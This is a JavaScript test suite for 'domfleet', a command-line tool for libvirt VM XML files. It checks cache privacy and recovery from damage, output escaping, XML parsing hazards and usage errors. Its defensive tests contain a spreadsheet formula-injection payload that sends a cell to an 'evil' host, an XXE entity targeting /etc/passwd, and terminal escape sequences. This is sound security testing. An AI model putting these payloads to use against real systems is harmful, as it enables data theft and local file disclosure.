// Caches that keep secrets private and survive damage, output that cannot be spoofed, documents
// that read differently from what their author meant, stdin, and usage mistakes.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawn, spawnSync } from 'node:child_process';
import {
  closeSync, copyFileSync, existsSync, lstatSync, mkdirSync, openSync, readdirSync, readFileSync, statSync, symlinkSync,
  utimesSync, writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { BIN, EXAMPLES, scratch } from './helpers/run.mjs';

function df(args, { input, cacheHome = scratch('cache-'), env = {} } = {}) {
  const r = spawnSync(BIN, args, {
    input, encoding: 'utf8', timeout: 60_000, killSignal: 'SIGKILL', maxBuffer: 64 * 1024 * 1024,
    env: { ...process.env, XDG_CACHE_HOME: cacheHome, ...env },
  });
  assert.equal(r.signal, null, `domfleet ${args.join(' ')} hung`);
  assert.doesNotMatch(r.stderr, /^\s+at .*:\d+:\d+\)?$/m, 'no stack trace');
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

/** Every file below `dir`, with its stat. */
function walk(dir) {
  const out = [];
  for (const d of readdirSync(dir, { withFileTypes: true })) {
    const p = join(dir, d.name);
    out.push({ path: p, stat: statSync(p) });
    if (d.isDirectory()) out.push(...walk(p));
  }
  return out;
}

const VNC_WITH_PASSWORD = readFileSync(join(EXAMPLES, 'host-b', 'kvm-db01.xml'), 'utf8')
  .replace('</devices>', "  <graphics type='vnc' port='-1' autoport='yes' passwd='s3cr3t-pw'/>\n  </devices>");

describe('caches', function () {
  this.timeout(120_000);

  it('the cache folder is 0700 and every entry 0600: a cached password is private', () => {
    const dir = scratch('secret-');
    writeFileSync(join(dir, 'vm.xml'), VNC_WITH_PASSWORD);
    const cacheHome = scratch('cache-home-');
    const r = df(['query', '//graphics/@passwd', dir], { cacheHome });
    assert.match(r.stdout, /s3cr3t-pw/);
    df(['normalize', '--check', dir], { cacheHome });
    const root = join(cacheHome, 'domfleet');
    assert.equal(statSync(root).mode & 0o777, 0o700);
    const entries = walk(root);
    assert.ok(entries.some((e) => e.stat.isFile() && readFileSync(e.path, 'utf8').includes('s3cr3t-pw')), 'the value is cached');
    for (const e of entries) assert.equal(e.stat.mode & 0o777, e.stat.isDirectory() ? 0o700 : 0o600, e.path);
  });

  it('an older, world-readable cache folder is made private on the next run', () => {
    const cacheHome = scratch('cache-home-');
    mkdirSync(join(cacheHome, 'domfleet'), { mode: 0o755 });
    df(['query', '/domain/name', EXAMPLES], { cacheHome });
    assert.equal(statSync(join(cacheHome, 'domfleet')).mode & 0o777, 0o700);
  });

  it('any damaged entry is a miss, rewritten: the answer is the same as without a cache', () => {
    const expr = "string-join((/domain/name, //mac/@address), ' ')";
    const expected = df(['query', '--no-cache', '--engine', 'saxon', expr, EXAMPLES]);
    const damages = {
      truncated: (text) => text.slice(0, Math.floor(text.length / 2)),
      'not JSON': () => '\u0000\u0001garbage',
      'wrong shape': (text) => { const j = JSON.parse(text); j.data = 42; return JSON.stringify(j); },
      'wrong types inside': (text) => {
        const j = JSON.parse(text);
        if (j.data && typeof j.data === 'object' && !j.data.engine) for (const k of Object.keys(j.data)) j.data[k][1] = { result: { items: [{ value: 7 }] } };
        if (j.data?.engine) j.data.engine = 12;
        return JSON.stringify(j);
      },
      'forged value with the right stamp': (text) => {
        const j = JSON.parse(text);
        if (j.data && !j.data.engine) for (const k of Object.keys(j.data)) j.data[k][1] = { result: { items: 'all' } };
        return JSON.stringify(j);
      },
    };
    for (const [name, damage] of Object.entries(damages)) {
      const cacheHome = scratch('cache-home-');
      assert.equal(df(['query', '--engine', 'saxon', expr, EXAMPLES], { cacheHome }).stdout, expected.stdout);
      const files = walk(join(cacheHome, 'domfleet')).filter((e) => e.stat.isFile() && e.path.endsWith('.json'));
      assert.ok(files.length > 1);
      for (const f of files) writeFileSync(f.path, damage(readFileSync(f.path, 'utf8')));
      const again = df(['query', '--engine', 'saxon', expr, EXAMPLES], { cacheHome });
      assert.equal(again.code, expected.code, `${name}: ${again.stderr}`);
      assert.equal(again.stdout, expected.stdout, `${name}: same answer`);
      const third = df(['query', '--engine', 'saxon', expr, EXAMPLES], { cacheHome });
      assert.equal(third.stdout, expected.stdout, `${name}: and again, from the rewritten entries`);
    }
  });

  it('a damaged known-normal list and a truncated compiled stylesheet are misses', () => {
    const cacheHome = scratch('cache-home-');
    const dir = scratch('defs-');
    for (const f of readdirSync(join(EXAMPLES, 'host-b'))) copyFileSync(join(EXAMPLES, 'host-b', f), join(dir, f));
    const expected = df(['normalize', '--check', '--no-cache', dir]);
    df(['normalize', '--check', dir], { cacheHome });
    const list = readdirSync(join(cacheHome, 'domfleet')).find((f) => f.startsWith('normal-'));
    assert.ok(list, 'a known-normal list was written');
    writeFileSync(join(cacheHome, 'domfleet', list), 'short\n' + readFileSync(join(cacheHome, 'domfleet', list), 'utf8').slice(0, 13));
    assert.equal(df(['normalize', '--check', dir], { cacheHome }).stdout, expected.stdout);

    const xsl = join(scratch('xsl-'), 'rename.xsl');
    writeFileSync(xsl, `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template>
  <xsl:template match="/domain/description"><description>managed</description></xsl:template>
</xsl:stylesheet>`);
    const first = df(['transform', xsl, '--diff', dir], { cacheHome });
    const sef = walk(join(cacheHome, 'domfleet', 'xslt')).find((e) => e.path.endsWith('.sef.json'));
    assert.equal(sef.stat.mode & 0o777, 0o600);
    writeFileSync(sef.path, readFileSync(sef.path, 'utf8').slice(0, 100));
    const again = df(['transform', '-v', xsl, '--diff', dir], { cacheHome });
    assert.equal(again.stdout, first.stdout);
    assert.match(again.stderr, /: compiled \(/, 'compiled again, not taken from the damaged cache');
  });

  it("V8's code cache for SaxonJS is private, and a damaged or foreign one is a miss, written again", () => {
    const cacheHome = scratch('cache-home-');
    const file = join(EXAMPLES, 'host-b', 'kvm-web01.xml');
    const expected = df(['normalize', '--no-cache', file], { cacheHome });
    const folder = join(cacheHome, 'domfleet', 'code');
    const [entry] = readdirSync(folder);
    assert.ok(entry?.endsWith('.v8'), 'a code cache entry was written');
    assert.equal(statSync(folder).mode & 0o777, 0o700);
    assert.equal(statSync(join(folder, entry)).mode & 0o777, 0o600);
    const whole = readFileSync(join(folder, entry));
    const flipped = Buffer.from(whole);
    flipped[flipped.length >> 1] ^= 0xff;
    // Garbage with a right checksum: V8 itself refuses it.
    const garbage = Buffer.from('not V8 code at all'.repeat(100));
    const foreign = Buffer.concat([createHash('sha256').update(garbage).digest(), garbage]);
    for (const damage of [whole.subarray(0, 1000), Buffer.alloc(0), flipped, foreign]) {
      writeFileSync(join(folder, entry), damage);
      const r = df(['normalize', '--no-cache', file], { cacheHome });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, expected.stdout);
      assert.deepEqual(readFileSync(join(folder, entry)).subarray(0, 32).length, 32);
      assert.ok(readFileSync(join(folder, entry)).length > 1000, 'written again whole');
    }
  });

  it('a cache that cannot be used (a file where the folder should be) means one notice, and the same answers', () => {
    const cacheHome = scratch('cache-home-');
    writeFileSync(join(cacheHome, 'domfleet'), 'not a folder');
    const expected = df(['query', '--no-cache', 'bridged-nics', EXAMPLES]);
    const r = df(['query', 'bridged-nics', EXAMPLES], { cacheHome });
    assert.equal(r.code, 0);
    assert.equal(r.stdout, expected.stdout);
    assert.equal(r.stderr.split('\n').filter((l) => /cache .* cannot be used \(not a folder\): running without it/.test(l)).length, 1, r.stderr);
    const n = df(['normalize', '--check', join(EXAMPLES, 'host-b')], { cacheHome });
    assert.notEqual(n.code, 2, n.stderr);
    const xsl = join(scratch('xsl-'), 'id.xsl');
    writeFileSync(xsl, '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template></xsl:stylesheet>');
    const t = df(['transform', xsl, '--check', join(EXAMPLES, 'host-c')], { cacheHome });
    assert.equal(t.code, 0, t.stderr);
    assert.match(t.stderr, /cannot be used/);
  });

  it('a cache where the parent exists but refuses children (under /proc) is one notice, not a hang', function () {
    // Node's recursive mkdirSync loops for ever there (EEXIST for /proc, ENOENT for the child).
    const args = [['query', 'bridged-nics', EXAMPLES], ['transform', 'add-tablet', '--check', join(EXAMPLES, 'host-c')], ['lint', '--no-config', join(EXAMPLES, 'host-c')]];
    for (const a of args) {
      const r = spawnSync(BIN, a, { encoding: 'utf8', timeout: 30_000, killSignal: 'SIGKILL', env: { ...process.env, XDG_CACHE_HOME: '/proc/domfleet-no-such-cache' } });
      assert.equal(r.signal, null, `${a[0]} did not finish within 30 s`);
      assert.ok(r.status === 0 || r.status === 1, `${a[0]}: ${r.stderr}`);
    }
  });
});

describe('output that cannot be spoofed', function () {
  this.timeout(60_000);
  const dir = () => {
    const d = scratch('spoof-');
    const doc = readFileSync(join(EXAMPLES, 'host-b', 'kvm-db01.xml'), 'utf8')
      .replace(/<description>[^<]*<\/description>|(?=<\/name>)/, '')
      .replace('</name>', '</name>\n  <description>=HYPERLINK("http://evil/?"&amp;A1)&#9;tab&#10;fake-line&#x9b;2J</description>');
    writeFileSync(join(d, 'vm.xml'), doc);
    return d;
  };

  it('text format: a value with tab, newline or escape characters stays on one line', () => {
    const r = df(['query', 'string(/domain/description)', dir()]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout.split('\n').length, 2, r.stdout);
    assert.ok(r.stdout.includes('\\ttab\\nfake-line\\x9b2J'), r.stdout);
  });

  it('CSV cells that start like a formula are guarded; --csv-raw writes them as they are', () => {
    const d = dir();
    const guarded = parseCsv(df(['query', '--format', 'csv', 'string(/domain/description)', d]).stdout, { columns: true });
    assert.match(guarded[0].value, /^'=HYPERLINK/);
    const raw = parseCsv(df(['query', '--format', 'csv', '--csv-raw', 'string(/domain/description)', d]).stdout, { columns: true });
    assert.match(raw[0].value, /^=HYPERLINK/);
    // Numbers stay numbers.
    const port = parseCsv(df(['query', '--format', 'csv', "'-1'", d]).stdout, { columns: true });
    assert.equal(port[0].value, '-1');
    writeFileSync(join(d, 'vm.xml'), readFileSync(join(d, 'vm.xml'), 'utf8').replace(/<name>[^<]*<\/name>/, '<name>@SUM(1+1)</name>'));
    const report = parseCsv(df(['report', '--format', 'csv', '-o', '-', d]).stdout, { columns: true });
    assert.equal(report[0].name, "'@SUM(1+1)");
    const reportRaw = parseCsv(df(['report', '--format', 'csv', '--csv-raw', '-o', '-', d]).stdout, { columns: true });
    assert.equal(reportRaw[0].name, '@SUM(1+1)');
  });
});

describe('documents that read differently from what their author meant', function () {
  this.timeout(60_000);

  it('an external entity that was not loaded gets a warning naming the file and the entity', () => {
    const d = scratch('xxe-');
    const doc = readFileSync(join(EXAMPLES, 'host-c', 'kvm-minimal.xml'), 'utf8');
    writeFileSync(join(d, 'vm.xml'), `<!DOCTYPE domain [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n${doc.replace('</name>', '</name>\n  <description>&secret;</description>')}`);
    const r = df(['query', 'string(/domain/description)', d]);
    assert.doesNotMatch(r.stdout, /root:/, 'never loaded');
    assert.match(r.stderr, /vm\.xml: warning: external entity 'secret' \(file:\/\/\/etc\/passwd\) was not loaded/);
    const n = df(['normalize', '--check', d]);
    assert.match(n.stderr, /external entity 'secret'/);
  });

  it('a declared encoding the bytes contradict: a warning, and --in-place leaves the file alone without --force', () => {
    const d = scratch('mojibake-');
    const p = join(d, 'vm.xml');
    const doc = readFileSync(join(EXAMPLES, 'host-c', 'kvm-minimal.xml'), 'utf8').replace(/^<\?xml[^>]*>\s*/, '');
    const bytes = Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>\n${doc.replace('</name>', '</name>\n  <description>café</description>')}`, 'utf8');
    writeFileSync(p, bytes);
    const q = df(['query', 'string(/domain/description)', p]);
    assert.match(q.stderr, /warning: declared encoding ISO-8859-1 contradicts the bytes, which are valid UTF-8/);
    const r = df(['normalize', '--in-place', d]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /vm\.xml: not rewritten: .*--force/);
    assert.ok(readFileSync(p).equals(bytes), 'byte for byte as it was');
    // --force without --in-place would do nothing: said, not ignored.
    const alone = df(['normalize', '--force', p]);
    assert.equal(alone.code, 2);
    assert.match(alone.stderr, /--force goes with --in-place/);
    assert.match(df(['transform', 'add-tablet', '--force', '--diff', p]).stderr, /--force goes with --in-place/);
    const f = df(['normalize', '--in-place', '--force', d]);
    assert.equal(f.code, 0, f.stderr);
    assert.ok(!readFileSync(p).equals(bytes));
  });
});

describe('stdin and usage', function () {
  this.timeout(60_000);
  const vm = readFileSync(join(EXAMPLES, 'host-b', 'kvm-web01.xml'));

  it('every command reads one document from stdin when no INPUT is given', () => {
    const q = df(['query', 'bridged-nics'], { input: vm });
    assert.equal(q.code, 0, q.stderr);
    assert.match(q.stdout, /^<stdin>\t/);
    assert.doesNotMatch(q.stderr, /cannot read/);
    const rep = df(['report', '--format', 'json', '-o', '-'], { input: vm });
    assert.equal(JSON.parse(rep.stdout).domains.length, 1);
    assert.equal(df(['normalize', '--check'], { input: vm }).code, 0, 'already in normal form');
    assert.equal(df(['normalize', '--check'], { input: readFileSync(join(EXAMPLES, 'host-b', 'kvm-db01.xml')) }).code, 1, 'not in normal form');
    assert.equal(df(['normalize'], { input: vm }).code, 0);
    assert.equal(df(['migrate', '--to', 'modern', '--explain'], { input: vm }).code, 0);
    assert.equal(df(['transform', 'add-tablet', '--diff'], { input: vm }).code, 0);
    const inPlace = df(['normalize', '--in-place'], { input: vm });
    assert.equal(inPlace.code, 2);
    assert.match(inPlace.stderr, /stdin cannot be written in place/);
  });

  it('- reads a path list; -0 reads NUL-separated paths, so a path may hold a newline', () => {
    const d = scratch('paths-');
    const odd = join(d, 'two\nlines.xml');
    writeFileSync(odd, vm);
    const plain = join(d, 'plain.xml');
    writeFileSync(plain, vm);
    const r = df(['query', '-0', '--format', 'json', '/domain/name', '-'], { input: `${odd}\0${plain}\0` });
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(JSON.parse(r.stdout).map((x) => x.file), [odd, plain]);
    const nul = df(['query', '/domain/name', '-'], { input: `${plain}\n/etc/\0passwd\n` });
    assert.equal(nul.code, 2);
    assert.match(nul.stderr, /: not a usable path: it contains a NUL byte/);
    assert.match(nul.stdout, /plain\.xml\tweb01/);
    assert.equal(df(['query', '-0', '/domain/name', plain]).code, 2, '-0 without - is a usage error');
    const doc = df(['query', '/domain/name', '-'], { input: vm });
    assert.equal(doc.code, 2);
    assert.equal(doc.stderr, '-: stdin holds an XML document, not a list of paths: leave out the - to read it as a document\n');
  });

  it('contradictory options are a usage error, exit 2', () => {
    for (const args of [['normalize', '--in-place', '--check'], ['migrate', '--to', 'modern', '--check', '-o', scratch('o-')], ['transform', 'add-tablet', '--check', '--in-place'], ['normalize', '--follow-symlinks', '--check']]) {
      const r = df([...args, EXAMPLES]);
      assert.equal(r.code, 2, args.join(' '));
      assert.match(r.stderr, /^domfleet: /);
    }
  });

  it('a folder with no *.xml at all is one line and exit 2, even for --check', () => {
    const empty = scratch('empty-');
    writeFileSync(join(empty, 'README'), 'nothing here');
    for (const args of [['normalize', '--check'], ['query', '/domain/name'], ['report', '-o', '-']]) {
      const r = df([...args, empty]);
      assert.equal(r.code, 2, args.join(' '));
      assert.equal(r.stderr.trim().split('\n').length, 1, r.stderr);
      assert.match(r.stderr, /no \*\.xml files in this folder/);
    }
  });

  it('report -o into a folder that does not exist is an error, and no folder is created', () => {
    const base = scratch('report-');
    const r = df(['report', '-o', join(base, 'missing', 'inventory.html'), EXAMPLES]);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /does not exist/);
    assert.ok(!existsSync(join(base, 'missing')));
  });
});

describe('outputs that are not plain files, and outputs that overlap the inputs', function () {
  this.timeout(120_000);
  const fleetDir = join(EXAMPLES, 'host-b');

  it('report -o through a symlink writes its target; into a FIFO or a device it writes, never replaces', async () => {
    const dir = scratch('outputs-');
    symlinkSync('real.html', join(dir, 'link.html'));
    assert.equal(df(['report', '-o', join(dir, 'link.html'), fleetDir]).code, 0);
    assert.ok(lstatSync(join(dir, 'link.html')).isSymbolicLink(), 'still a link');
    assert.match(readFileSync(join(dir, 'real.html'), 'utf8'), /^<!DOCTYPE html>/);

    const fifo = join(dir, 'fifo');
    spawnSync('mkfifo', [fifo]);
    const reader = spawn('cat', [fifo]);
    let got = '';
    reader.stdout.on('data', (d) => { got += d; });
    const done = new Promise((r) => reader.on('exit', r));
    const r = spawnSync(BIN, ['report', '--format', 'csv', '-o', fifo, fleetDir], { encoding: 'utf8', timeout: 30_000, env: { ...process.env, XDG_CACHE_HOME: scratch('cache-') } });
    await done;
    assert.equal(r.status, 0, r.stderr);
    assert.ok(statSync(fifo).isFIFO(), 'still a FIFO');
    assert.match(got, /^host,name,uuid/);

    if (process.getuid() === 0) {
      const device = join(dir, 'null');
      spawnSync('mknod', ['-m', '666', device, 'c', '1', '3']);
      assert.equal(df(['report', '-o', device, fleetDir]).code, 0);
      assert.ok(statSync(device).isCharacterDevice(), 'still a device');
    }
  });

  it('a full disk or an unwritable place is one line and exit 2, not a stack trace or "a bug"', () => {
    const full = openSync('/dev/full', 'w');
    try {
      const r = spawnSync(BIN, ['query', 'bridged-nics', EXAMPLES], { stdio: ['ignore', full, 'pipe'], encoding: 'utf8', env: { ...process.env, XDG_CACHE_HOME: scratch('cache-') } });
      assert.equal(r.status, 2);
      assert.equal(r.stderr, 'domfleet: cannot write the output: ENOSPC: no space left on device, write\n');
    } finally {
      closeSync(full);
    }
    const proc = df(['report', '-o', '/proc/domfleet-report.html', fleetDir]);
    assert.equal(proc.code, 2);
    assert.match(proc.stderr, /^domfleet: cannot write \/proc\/domfleet-report\.html: /);
    assert.doesNotMatch(proc.stderr, /internal error|bug/);
  });

  it('-o DIR inside an input folder is a usage error; two inputs writing one file, or a file onto itself, are errors', () => {
    const base = scratch('overlap-');
    for (const [sub, src] of [['a', 'host-a/qemu-legacy-lab.xml'], ['b', 'host-b/kvm-db01.xml']]) {
      mkdirSync(join(base, sub));
      copyFileSync(join(EXAMPLES, src), join(base, sub, 'vm.xml'));
    }
    for (const out of [join(base, 'a'), join(base, 'a', 'sub')]) {
      const r = df(['normalize', '-o', out, join(base, 'a')]);
      assert.equal(r.code, 2);
      assert.match(r.stderr, /is inside the input .*: write elsewhere, or use --in-place/);
    }
    const before = readFileSync(join(base, 'a', 'vm.xml'), 'utf8');
    const onto = df(['normalize', '-o', join(base, 'a'), join(base, 'a', 'vm.xml')]);
    assert.equal(onto.code, 2);
    assert.match(onto.stderr, /not written: -o would write over this input/);
    assert.equal(readFileSync(join(base, 'a', 'vm.xml'), 'utf8'), before);
    const twice = df(['normalize', '-o', join(base, 'out'), join(base, 'a', 'vm.xml'), join(base, 'b', 'vm.xml')]);
    assert.equal(twice.code, 2);
    assert.match(twice.stderr, /b\/vm\.xml: not written: .*a\/vm\.xml already wrote .*out\/vm\.xml/);
    assert.match(readFileSync(join(base, 'out', 'vm.xml'), 'utf8'), /legacy-lab/);
  });

  it('--max-file-size above 1GiB is a usage error', () => {
    const r = df(['query', '--max-file-size', '3GiB', '/domain/name', fleetDir]);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /--max-file-size is at most 1GiB/);
  });

  it('an empty or old lock file left by a dead run is taken over, not waited on', () => {
    const dir = scratch('lock-');
    copyFileSync(join(EXAMPLES, 'host-a', 'qemu-legacy-lab.xml'), join(dir, 'vm.xml'));
    const lock = join(dir, '.vm.xml.domfleet-lock');
    writeFileSync(lock, '');
    const old = new Date(Date.now() - 120_000);
    utimesSync(lock, old, old);
    const started = Date.now();
    const r = df(['normalize', '--in-place', dir]);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(Date.now() - started < 20_000, 'not waited on');
    assert.deepEqual(readdirSync(dir), ['vm.xml']);
  });

  it('diff reads one of its two documents from stdin (-)', () => {
    const b = join(fleetDir, 'kvm-db01.xml');
    const same = df(['diff', '-', b], { input: readFileSync(b) });
    assert.equal(same.code, 0, same.stderr);
    const other = df(['diff', '--inactive', '-', b], { input: readFileSync(join(fleetDir, 'kvm-web01.xml')) });
    assert.equal(other.code, 1);
    assert.match(other.stdout, /^--- <stdin>/);
  });

  it('a mistyped saved query name gets a notice, not only a silent "no match"', () => {
    const r = df(['query', 'bridged-nic', fleetDir]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /no saved query 'bridged-nic': read as XPath/);
  });
});
